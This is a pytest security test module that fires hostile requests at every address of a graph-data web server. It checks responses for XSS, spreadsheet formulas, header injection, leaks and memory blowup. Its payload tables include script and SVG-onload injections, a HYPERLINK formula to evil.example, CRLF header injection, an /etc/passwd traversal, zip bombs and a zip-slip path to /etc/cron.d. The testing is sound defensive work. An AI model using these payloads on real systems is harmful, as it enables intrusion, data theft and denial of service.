"""Attacks on every address of a real server, by the rows of `attacks.csv`; a row has the status of the answer.

Every answer also has nothing of others, and nothing that a browser or a spreadsheet runs
(`faults_of`). No process of the server takes more than `MEGABYTES` for it, and none connects to
another server. The names of the served graph begin with a formula and end with markup.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import re
import socket
import subprocess
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree as ET

import pytest
from desk_over_http import PRACTICE
from openpyxl import Workbook, load_workbook

from attackers import Reply, ask, connect
from gcmgraph.contributions.access import Tokens
from gcmgraph.contributions.contribution import Role
from gcmgraph.contributions.database import Database
from gcmgraph.rdf.canonical import serialize_canonical
from gcmgraph.rdf.parsing import read_quads
from gcmgraph.rdf.terms import Literal, Quad
from gcmgraph.store.store_folder import StoreFolder
from gcmgraph.store.version_files import DUMP
from markup import Page
from processes import children_of, runs
from serving import started
from shared import once
from smtp import smtp_server

pytestmark = pytest.mark.skipif(
    not Path("/proc/self/clear_refs").exists(), reason="needs Linux, which measures memory in /proc"
)

#: Limit on what an attack takes of each process of the server, in megabytes above its memory before.
MEGABYTES = 200

#: In every attack that could be echoed, and in every name of the served graph.
MARK = "q9zmark"

#: In everything that only its sender and curators may read.
PRIVATE = "geheim7"

#: What stands for a name in braces in a row; in addresses it is percent-encoded.
TEXTS = {
    "script": f"\"'><script>{MARK}</script>",
    "svg": f"]]></text><svg onload={MARK}>",
    "formula": f'=HYPERLINK("http://evil.example/?{MARK}")',
    "header": f"{MARK}\r\nSet-Cookie: a={MARK}\r\n\r\n<b>",
    "control": f"{MARK}\0\x1b[2J\u202e",
    "template": "{{7*7}}${7*7}%(x)s%s",
    "bracket": "http://[",
    "path": "../../../../../../etc/passwd",
    "digits": "9" * 4_000,
    "long": "x" * 6_000,
    "parens": "(" * 3_000,
    "quotes": "'\"" * 1_500,
    "spaces": "a " * 2_900,
    "commas": "Niger, " * 70,
    "fts": 'NEAR("a" "b", 9) OR ^a* AND NOT -"',
    "deep": "[" * 100_000,
    "objects": '{"a":' * 50_000,
}

#: Media types of bodies by the word before the first colon of a row's body.
MEDIA_TYPES = {
    "form": "application/x-www-form-urlencoded",
    "json": "application/json",
    "turtle": "text/turtle",
    "jsonld": "application/ld+json",
    "rdfxml": "application/rdf+xml",
    "sparql": "application/sparql-query",
    "update": "application/sparql-update",
    "csv": "text/csv",
    "zip": "application/zip",
}

#: Of the markup in names of the graph: a formula before them, an end of every kind of text after.
FORMULA, MARKUP = "=1+1;", f"\"'><b class={MARK}>]]></script></title></text>"

_PREFIX_OF_FORMULAS = tuple("=+-@\t\r")
_NUMBER = re.compile(r"[-+]?\d[\d.,]*(?:[eE][-+]?\d+)?%?")


@dataclass(frozen=True)
class Attack:
    """A row of the table."""

    line: int
    #: the address as in `routes.csv`; `every` for one without a route
    door: str
    kind: str
    #: whose token it has: none, contributor (of the private contribution), other (contributor), curator
    holder: str
    request: str
    headers: str
    body: str
    status: str
    #: what else holds: `framed`, any site may frame the answer
    holds: str


def _attacks() -> list[Attack]:
    file = Path(__file__).with_name("attacks.csv")
    with file.open(encoding="utf-8", newline="") as lines:
        return [Attack(line, **row) for line, row in enumerate(csv.DictReader(lines), 2)]


ATTACKS = _attacks()
KINDS = sorted({attack.kind for attack in ATTACKS})


@dataclass(frozen=True)
class Target:
    """The attacked server, what rows name, and the socket to which it must not connect."""

    base: str
    process: subprocess.Popen[bytes]
    folder: Path
    tokens: Mapping[str, str]
    texts: Mapping[str, str]
    canary: socket.socket

    def filled(self, text: str, *, encoded: bool) -> str:
        """A text of a row with the texts of its names; `{3*a}` is `aaa`."""

        def value(match: re.Match[str]) -> str:
            if match["times"]:
                return match["repeated"] * int(match["times"])
            known = {**TEXTS, **self.texts}
            return quote(known[match["name"]], safe="") if encoded else known[match["name"]]

        return re.sub(r"\{(?:(?P<times>\d+)\*(?P<repeated>[^}]+)|(?P<name>[a-z]+))\}", value, text)


@pytest.fixture(scope="module")
def hostile_store(small_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small dataset, in which each text with a language, and each name, is a formula and markup."""

    def hostile(quad: Quad) -> Quad:
        value = quad.object
        is_name = quad.predicate.value.endswith(("/name", "/title"))
        if str(quad.graph_name).endswith(("/ontology>", "/shapes>")):
            return quad  # of the maintainers
        if not isinstance(value, Literal) or not (value.language or is_name):
            return quad
        text = Literal(f"{FORMULA}{value.value}{MARKUP}", language=value.language)
        return Quad(quad.subject, quad.predicate, text, quad.graph_name)

    def make(folder: Path) -> None:
        quads = list(map(hostile, read_quads(small_store / "current" / DUMP)))
        StoreFolder(folder).publish("v1", quads, {DUMP: serialize_canonical(quads)})

    return once(tmp_path_factory, "attacked-names", make)


@pytest.fixture(scope="module")
def target(hostile_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder = tmp_path_factory.mktemp("attacked-ledger")
    people = {"contributor": Role.CONTRIBUTOR, "other": Role.CONTRIBUTOR, "curator": Role.CURATOR}
    tokens = {
        name: Tokens(Database(folder)).create(role, name, f"https://example.org/{name}")[1]
        for name, role in people.items()
    }
    with (
        socket.create_server(("127.0.0.1", 0)) as canary,
        smtp_server() as (mailer, _),
        pytest.MonkeyPatch.context() as patch,
    ):
        canary.setblocking(False)
        address = f"http://127.0.0.1:{canary.getsockname()[1]}"
        for variable in ("http_proxy", "https_proxy", "all_proxy"):
            patch.setenv(variable, address)  # a request to any server goes there
        settings = {
            "contributions": str(folder),
            "public_url": "https://gcm.example/",
            "smtp": f"smtp://127.0.0.1:{mailer.port}?from=gcm@gcm.example",
            "quota_failures": 0,
            "quota_feedback": 0,
        }
        with started(hostile_store, **settings) as (base, process):
            texts = _private_texts(base, tokens)
            texts |= {"canary": address, "token": tokens["contributor"]}
            yield Target(base, process, folder, tokens, texts, canary)


def _private_texts(base: str, tokens: Mapping[str, str]) -> dict[str, str]:
    """Addresses of a contribution that is not public, of its used link, and of a remark."""
    body = PRACTICE.replace("The practice SLUG", PRIVATE).replace("SLUG", "unpublished").encode()
    path = f"/contributions?title={PRIVATE}&email={PRIVATE}@example.org&name={PRIVATE}.ttl"
    sent = ask(
        base,
        path,
        body,
        Authorization=f"Bearer {tokens['contributor']}",
        Content_Type="text/turtle",
        Accept="text/html",
    )
    assert sent.status == 201, Page(sent.body.decode()).text
    (link,) = re.findall(r"/contributions/status/([\w-]+)", sent.body.decode())
    opened = ask(base, f"/contributions/status/{link}")
    assert opened.status == 303
    remark = {"reason": f"{PRIVATE} is wrong.", "email": f"{PRIVATE}@example.org"}
    remarked = ask(base, "/feedback", json.dumps(remark).encode(), Content_Type="application/json")
    assert remarked.status == 201, remarked.body
    return {
        "contribution": sent.headers["location"].rpartition("/")[2],
        "link": link,
        "remark": remarked.headers["location"].rpartition("/")[2],
    }


def test_every_address_is_attacked() -> None:
    routes = Path(__file__).with_name("routes.csv")
    with routes.open(encoding="utf-8", newline="") as lines:
        rules = {row["rule"] for row in csv.DictReader(lines) if row["rule"]}
    assert rules - {attack.door for attack in ATTACKS} == set()


@pytest.mark.parametrize("kind", KINDS)
def test_attacks(target: Target, kind: str) -> None:
    faults = [
        f"line {attack.line}, {attack.door}: {fault}"
        for attack in ATTACKS
        if attack.kind == kind
        for fault in _faults(target, attack)
    ]
    assert faults == []


def _faults(target: Target, attack: Attack) -> list[str]:
    """What of a row does not hold."""
    workers = _processes(target.process.pid)
    memory = {pid: _reset_peak(pid) for pid in workers}
    replies = _answers(target, attack)
    grown = [_peak(pid) - before for pid, before in memory.items() if runs(pid)]
    faults = [fault for reply in replies for fault in faults_of(target, attack, reply)]
    if attack.kind == "hosts":
        (reply,) = _answers(target, replace(attack, headers=""))
        if b"evil.example" in reply.body or "evil.example" in str(reply.headers):
            faults.append("the next client gets what the request named")
    statuses = " ".join(str(reply.status) for reply in replies)
    if statuses != attack.status:
        faults.append(f"the status is {statuses}, not {attack.status}")
    if max(grown, default=0) > MEGABYTES:
        faults.append(f"a process took {max(grown):.0f} MB")
    if not all(map(runs, workers[:1])):
        faults.append("the server ended")
    try:
        target.canary.accept()[0].close()
        faults.append("the server connected to another one")
    except BlockingIOError:
        pass
    return faults


def _answers(target: Target, attack: Attack) -> list[Reply]:
    """The answer to a request; to bytes that are sent as they are, all answers on their connection."""
    if attack.request == "RAW":
        data = target.filled(attack.body, encoded=False).encode().decode("unicode_escape")
        return _raw_answers(target, data.encode("latin-1"))
    method, _, path = attack.request.partition(" ")
    headers = {}
    if attack.holder:
        headers["Authorization"] = f"Bearer {target.tokens[attack.holder]}"
    for header in filter(None, attack.headers.split(" | ")):
        name, _, value = header.partition(": ")
        headers[name] = target.filled(value, encoded=False)
    body = None
    if attack.body:
        syntax, _, text = attack.body.partition(":")
        headers.setdefault("Content-Type", MEDIA_TYPES[syntax])
        body = (
            BODIES[text]()
            if syntax == "zip"
            else target.filled(text, encoded=syntax == "form").encode()
        )
    elif method == "POST":
        body = b""
    return [_ask(target.base, method, target.filled(path, encoded=True), body, headers)]


def _ask(
    base: str, method: str, path: str, body: bytes | None, headers: Mapping[str, str]
) -> Reply:
    connection = http.client.HTTPConnection(urlsplit(base).netloc, timeout=60)
    try:
        encoded = {name: value.encode("utf-8") for name, value in headers.items()}
        connection.request(method, path, body, encoded)
        response = connection.getresponse()
        received = {name.lower(): value for name, value in response.getheaders()}
        return Reply(response.status, received, response.read(), 0)
    finally:
        connection.close()


#: An address of the attacker in a header.
_FOREIGN_ADDRESS = re.compile(r"[\s<\"'](?:[a-z]+:)?//[^/\s]*evil\.example")

#: The last request on a connection.
_LAST_REQUEST = b"GET /health HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"


def _raw_answers(target: Target, data: bytes) -> list[Reply]:
    """All answers on a connection: to some bytes, and to a good request after them where it stays open."""
    with connect(target.base) as connection:
        connection.sendall(data + _LAST_REQUEST)
        received = b"".join(iter(lambda: connection.recv(1 << 16), b""))
    heads = re.split(rb"(?=HTTP/1\.[01] \d{3})", received)
    return [Reply(int(head[9:12]), {}, head, 0) for head in heads if head]


def _processes(pid: int) -> list[int]:
    return [pid, *(found for child in children_of(pid) for found in _processes(child))]


def _reset_peak(pid: int) -> float:
    """Let the peak of a process begin with its memory of now, in megabytes."""
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
    except OSError:
        return 0  # it has ended
    return _peak(pid)


def _peak(pid: int) -> float:
    """The greatest memory of a process, in megabytes."""
    try:
        peak = re.search(r"VmHWM:\s+(\d+)", Path(f"/proc/{pid}/status").read_text())
    except OSError:
        return 0
    return int(peak[1]) / 1024 if peak else 0


def faults_of(target: Target, attack: Attack, reply: Reply) -> list[str]:
    """What is wrong in an answer, whatever the attack."""
    faults = []
    headers = str(dict(reply.headers))
    body = reply.body
    if attack.holder not in {"contributor", "curator"} and PRIVATE.encode() in body:
        faults.append("it has what is private")
    if str(target.folder).encode() in body or b"Traceback" in body:
        faults.append("it has the inside of the server")
    if attack.request == "RAW" and b"gcmgraph_requests" in body:
        faults.append("a request within a body was answered")
    location = reply.headers.get("location", "/")
    is_foreign = not re.match(r"/(?![/\\])", location) or _FOREIGN_ADDRESS.search(headers)
    is_foreign = is_foreign or "Max-Age=0" not in reply.headers.get("set-cookie", "Max-Age=0")
    if is_foreign:
        faults.append(f"headers have texts of the request: {headers}")
    if not reply.headers:  # of a request that is no HTTP
        return faults
    frames = "*" if "framed" in attack.holds else "'none'"
    if f"frame-ancestors {frames}" not in reply.headers.get("content-security-policy", ""):
        faults.append("the frames that may show it are wrong")
    if reply.headers.get("x-content-type-options") != "nosniff":
        faults.append("a browser may guess its type")
    media_type = reply.headers.get("content-type", "").partition(";")[0]
    return [*faults, *(_faults_of_body(media_type, body) if body else ())]


def _faults_of_body(media_type: str, body: bytes) -> list[str]:
    """What a browser or a spreadsheet would run in a body; what is not of its media type."""
    reader = READERS.get(media_type)
    if reader is None:
        return []
    try:
        return reader(body)
    except (ValueError, SyntaxError, KeyError, zipfile.BadZipFile) as error:
        return [f"it is not {media_type}: {error}"]


def _page_faults(body: bytes) -> list[str]:
    page = Page(body.decode())
    classes = [value for value in page.values("class") if MARK in value]
    return [f"a browser runs {found[:80]}" for found in (*page.run, *classes)]


def _xml_faults(body: bytes) -> list[str]:
    elements = list(ET.fromstring(body).iter())  # noqa: S314 - an answer of ours
    names = {element.tag.rpartition("}")[2].lower() for element in elements}
    handlers = {name for element in elements for name in element.attrib if name.startswith("on")}
    addresses = [
        value
        for element in elements
        for name, value in element.attrib.items()
        if name.endswith("href") and re.match(r"\s*(javascript|data:text)", value, re.IGNORECASE)
    ]
    marked = [element for element in elements if MARK in str(element.get("class"))]
    found = sorted(names & {"script", "iframe", "foreignobject"}) + sorted(handlers) + addresses
    return [f"a browser runs {name}" for name in found] + ["it has markup of a name"] * len(marked)


def _csv_faults(body: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return [
        f"a cell is a formula: {cell[:40]}"
        for row in rows
        for cell in row
        if cell.startswith(_PREFIX_OF_FORMULAS) and not _NUMBER.fullmatch(cell)
    ]


def _workbook_faults(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body))
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [f"{cell.coordinate} is a formula" for cell in cells if cell.data_type == "f"]


def _archive_faults(body: bytes) -> list[str]:
    """Of a document or an archive: names that lead out of it, parts that are no XML."""
    faults = []
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        for name in parts.namelist():
            if ".." in name or name.startswith("/"):
                faults.append(f"the name {name} leads out of the archive")
            if name.endswith((".xml", ".rels")):
                faults += _xml_faults(parts.read(name))
            if name.endswith(".csv"):
                faults += _csv_faults(parts.read(name))
    return faults


def _json_faults(body: bytes) -> list[str]:
    json.loads(body)
    return []


def _reference_faults(body: bytes) -> list[str]:
    """Of a reference to cite: names on more than one line."""
    lines = body.decode().splitlines()
    return ["a name begins a line" for line in lines if line.startswith((FORMULA, "<"))]


_WORKBOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

#: What is wrong in an answer, by its media type.
READERS = {
    "text/html": _page_faults,
    "image/svg+xml": _xml_faults,
    "application/atom+xml": _xml_faults,
    "application/xml": _xml_faults,
    "application/rdf+xml": _xml_faults,
    "application/opensearchdescription+xml": _xml_faults,
    "application/sparql-results+xml": _xml_faults,
    "text/csv": _csv_faults,
    _WORKBOOK: _workbook_faults,
    _DOCUMENT: _archive_faults,
    "application/zip": _archive_faults,
    "application/json": _json_faults,
    "application/problem+json": _json_faults,
    "application/ld+json": _json_faults,
    "application/x-research-info-systems": _reference_faults,
}


def _zipped(name: str, data: bytes, method: int = zipfile.ZIP_DEFLATED, copies: int = 1) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", method) as parts:
        for number in range(copies):
            parts.writestr(f"{number}/{name}", data)
    return archive.getvalue()


#: Bodies that are too long for a table, by name.
BODIES = {
    "deflate": lambda: _zipped("a.ttl", bytes(100_000_000)),
    "bzip2": lambda: _zipped("a.ttl", bytes(100_000_000), zipfile.ZIP_BZIP2),
    "lzma": lambda: _zipped("a.ttl", bytes(20_000_000), zipfile.ZIP_LZMA),
    "many": lambda: _zipped("a.ttl", b"", zipfile.ZIP_STORED, 20_000),
    "nested": lambda: _zipped("a.zip", _zipped("a.ttl", b"")),
    "out": lambda: _zipped("../../../../etc/cron.d/a.ttl", b"<x:a> <x:b> <x:c> ."),
    "nameless": lambda: _zipped("p.csv", b"1").replace(b"0/p.csv", b"\0/p.csv"),
    "cut": lambda: _zipped("a.ttl", bytes(1000))[:80],
    "none": lambda: b"PK\3\4",
}


def _workbook_with(value: str) -> bytes:
    book = Workbook()
    book.worksheets[0].append([value])
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


@pytest.mark.parametrize(
    ("media_type", "body"),
    [
        ("text/html", b"<p onclick=a()>"),
        ("text/html", b"<a href='javascript:a()'>"),
        ("text/html", b"<script>a()</script>"),
        ("text/html", f"<b class={MARK}>".encode()),
        ("image/svg+xml", b"<svg><script/></svg>"),
        ("image/svg+xml", b"<svg onload='a()'/>"),
        ("image/svg+xml", b"<svg><a href='javascript:a()'/></svg>"),
        ("application/atom+xml", b"<feed>"),
        ("text/csv", b"name,=1+1"),
        ("text/csv", b"name,\t=1+1"),
        (_WORKBOOK, _workbook_with("=1+1")),
        ("application/zip", _zipped("../a.ttl", b"")),
        (_DOCUMENT, _zipped("document.xml", b"<script/>")),
        ("application/json", b"{"),
        ("application/x-research-info-systems", b"TY  - DATA\n=1+1;"),
    ],
)
def test_harmful_answer_is_recognized(media_type: str, body: bytes) -> None:
    assert _faults_of_body(media_type, body) != []
